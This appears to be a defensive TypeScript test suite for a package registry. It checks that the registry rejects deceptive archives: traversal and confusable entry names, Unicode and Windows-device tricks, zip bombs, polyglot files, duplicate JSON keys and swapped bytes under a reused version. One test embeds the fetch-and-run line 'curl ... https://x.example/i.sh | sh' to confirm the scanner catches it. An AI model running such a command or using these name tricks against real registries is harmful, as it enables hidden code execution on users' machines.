// Threat 6: a package that shows one thing to a reader and installs another.
import { automation as corpusAutomation } from '../test/corpus/archive-parts.ts'
import { hostileArchives } from '../test/corpus/hostile-archives.ts'
import { type Attack, hold, holdEach, shown } from './attack.ts'
import type { Person } from './person.ts'
import type { Reply } from './request.ts'
import { automation, publish, workflow } from './things.ts'

const CLAUSE = '6 archives'

/** Names of entries that must not stand together in one archive, beside `automation.json`. */
const pairs: [why: string, names: string[]][] = [
  ['a dot before the manifest', ['./automation.json']],
  ['the manifest in capitals', ['Automation.json']],
  ['the manifest in a folder of no name', ['/automation.json']],
  ['the manifest behind an empty segment', ['a//b.js']],
  ['a dot segment within', ['a/./b.js']],
  ['two dots', ['a/../automation.json']],
  ['the same but for case', ['scripts/a.js', 'scripts/A.js']],
  ['the same but for the case of a folder', ['scripts/a.js', 'Scripts/b.js']],
  ['the same but for case beyond ASCII', ['straße.js', 'STRASSE.js']],
  ['NFC and NFD', ['caf\u00e9.js', 'cafe\u0301.js']],
  ['a ligature', ['\ufb01le.js', 'file.js']],
  ['a file and a folder', ['lib', 'lib/a.js']],
  ['a file and a folder, but for case', ['Lib', 'lib/a.js']],
  ['a folder and a file, the other order', ['lib/a.js', 'lib']],
  ['a trailing dot', ['a.js.']],
  ['a trailing space', ['a.js ']],
  ['a folder with a trailing dot', ['lib./a.js']],
  ['a colon (another stream on Windows)', ['a.js:evil']],
  ['a device of Windows', ['CON']],
  ['a device of Windows with an ending', ['aux.js']],
  ['a question mark', ['a?.js']],
  ['an asterisk', ['*.js']],
  ['a pipe', ['a|b.js']],
  ['quotes', ['a"b.js']],
  ['less and greater', ['a<b>.js']],
  ['a line break', ['a\nb.js']],
  ['an escape sequence', ['a\u001b[2J.js']],
  ['text that runs from right to left', ['a\u202egpj.js']],
  ['a character of no width', ['a\u200bb.js']],
  ['a backslash', ['a\\b.js']],
]

const isRefused = ({ status, json }: Reply): boolean =>
  status === 400 && (json()?.['error'] as { code?: string } | undefined)?.code === 'invalid_artifact'

async function holdRefused(alice: Person, bytes: Buffer): Promise<void> {
  const reply = await publish(alice, { kind: 'automation', content: bytes })
  hold(isRefused(reply), shown(reply))
}

export const archives: Attack[] = [
  {
    name: 'a script that a shell reads is scanned, however it is written',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const script = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n'
      const written: [why: string, data: Buffer][] = [
        ['a zero byte', Buffer.from(`${script}\0\n`)],
        ['a byte that is no UTF-8', Buffer.concat([Buffer.from(script), Buffer.from([0xff, 10])])],
        ['UTF-16', Buffer.from(`\ufeff${script}`, 'utf16le')],
        ['many notes before it', Buffer.from(`${'a\u200bb\n'.repeat(200)}${script}`)],
      ]
      return holdEach(
        written,
        ([why]) => why,
        async ([, data]) => {
          const content = automation([{ name: 'run.sh', data }], 'harbor-scan')
          const reply = await publish(alice, { kind: 'automation', content, fields: { stop_for: 'severe' } })
          hold(reply.status === 409, shown(reply))
        },
      )
    },
  },
  {
    name: 'names that mean the same entry, or another than they show, are refused',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      return holdEach(
        pairs,
        ([why]) => why,
        ([, names]) =>
          holdRefused(
            alice,
            automation(
              names.map((name) => ({ name: Buffer.from(name), flags: 0x800, data: 'x' })),
              `pair-${Date.now()}`,
            ),
          ),
      )
    },
  },
  {
    name: 'an archive with honest names is taken',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const entries = ['scripts/list.js', 'scripts/Über.js', 'README.md', 'lib/.keep', 'a b/c.txt'].map((name) => ({
        name,
        data: 'x',
      }))
      const reply = await publish(alice, { kind: 'automation', content: automation(entries, `honest-${Date.now()}`) })
      hold(reply.status === 201, shown(reply))
      return 'published'
    },
  },
  {
    name: 'archives that lie, link, encrypt or inflate are refused (the corpus of the tests)',
    clause: CLAUSE,
    needs: ['accounts', 'load'],
    async run(target) {
      const alice = await target.member('alice')
      const small = hostileArchives.filter(({ name }) => !/MiB|ratio|1,?000/i.test(name))
      return holdEach(
        small,
        ({ name }) => name,
        ({ bytes }) => holdRefused(alice, bytes),
      )
    },
  },
  {
    name: 'an archive that inflates beyond its bounds is refused',
    clause: CLAUSE,
    needs: ['accounts', 'load'],
    async run(target) {
      const alice = await target.member('alice')
      const zeros = (n: number) => ({ name: `${n}.bin`, data: Buffer.alloc(9 * 1024 * 1024) })
      const bytes = corpusAutomation(Array.from({ length: 6 }, (_, n) => zeros(n)))
      const started = performance.now()
      await holdRefused(alice, bytes)
      return `54 MB in ${bytes.byteLength} bytes, refused in ${Math.round(performance.now() - started)} ms`
    },
  },
  {
    name: 'a file that is two kinds at once is what it was published as',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const both = Buffer.concat([Buffer.from(workflow()), automation([], `both-${Date.now()}`)])
      const asWorkflow = await publish(alice, { kind: 'workflow', content: both })
      hold(asWorkflow.status === 400, `JSON with a zip behind it: ${shown(asWorkflow)}`)
      const asAutomation = await publish(alice, { kind: 'automation', content: both })
      hold(asAutomation.status === 400, `a zip with JSON before it: ${shown(asAutomation)}`)
      return 'refused as either'
    },
  },
  {
    name: 'JSON with a name twice is not two things to two readers',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const twice = workflow({ name: 'Good' }).replace('"name":"Good"', '"name":"Evil","name":"Good"')
      const reply = await publish(alice, { kind: 'workflow', content: twice })
      if (reply.status === 400) return 'refused'
      hold(reply.status === 201 && reply.json()?.['name'] === 'Good', `shown is not the last: ${shown(reply)}`)
      return 'shown is the last of both, which is what parsers of JSON take'
    },
  },
  {
    name: 'what everybody could see under a name and a version does not come back with other bytes',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const name = `Gone ${Date.now()}`
      const send = (description: string) =>
        publish(alice, {
          kind: 'workflow',
          content: workflow({ name, description }),
          fields: { visibility: 'public', version: '1.0.0' },
        })
      const first = await send('Honest')
      hold(first.status === 201, `it could not be published: ${shown(first)}`)
      const gone = await alice.send({ method: 'DELETE', path: `/api/library/items/${first.json()?.['id']}` })
      hold(gone.status === 200, `it could not be deleted: ${shown(gone)}`)
      const other = await send('Evil')
      hold(other.status === 409, `other bytes came back: ${shown(other)}`)
      const same = await send('Honest')
      hold(same.status === 201, `the same bytes are refused: ${shown(same)}`)
      return 'other bytes are 409, the same come again'
    },
  },
]
